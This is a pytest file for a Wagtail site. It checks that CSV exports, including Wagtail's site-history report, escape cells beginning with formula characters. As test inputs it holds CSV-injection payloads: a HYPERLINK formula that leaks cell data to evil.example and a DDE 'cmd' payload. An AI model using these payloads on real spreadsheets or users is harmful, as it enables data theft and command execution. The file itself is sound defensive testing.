"""CSV exports never hand a spreadsheet program a formula (CSV injection): every export,
Wagtail's own reports included, escapes cells through orientation.core.spreadsheets."""

import csv
import io

import pytest
from wagtail.models import PageLogEntry

from orientation.core.spreadsheets import spreadsheet_safe
from tests.factories import UserFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Thailand guide", "Thailand guide"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_escaped(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.django_db
def test_wagtails_site_history_csv_export_escapes_a_formula_in_a_page_title(client, home_km):
    home_km.title = HYPERLINK
    home_km.save_revision()
    admin = UserFactory(username="boss", is_superuser=True, is_staff=True)
    PageLogEntry.objects.log_action(home_km, "wagtail.edit", user=admin)
    client.force_login(admin)

    response = client.get("/admin/reports/site-history/?export=csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
